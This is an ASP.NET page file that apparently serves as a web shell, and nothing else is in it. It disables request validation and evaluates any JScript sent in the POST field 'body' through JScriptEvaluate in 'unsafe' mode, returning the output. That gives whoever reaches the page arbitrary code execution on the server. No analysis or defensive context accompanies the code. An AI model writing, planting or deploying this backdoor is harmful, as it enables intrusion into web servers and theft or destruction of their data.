<%@ Page Language="C#" ValidateRequest="false" %>
<%@ Assembly Name="Microsoft.JScript" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        string src = Request.Form["body"];
        if (String.IsNullOrEmpty(src)) return;
        object r = Microsoft.JScript.Eval.JScriptEvaluate(src, "unsafe", Microsoft.JScript.Vsa.VsaEngine.CreateEngine());
        Response.Write(r);
    }
</script>
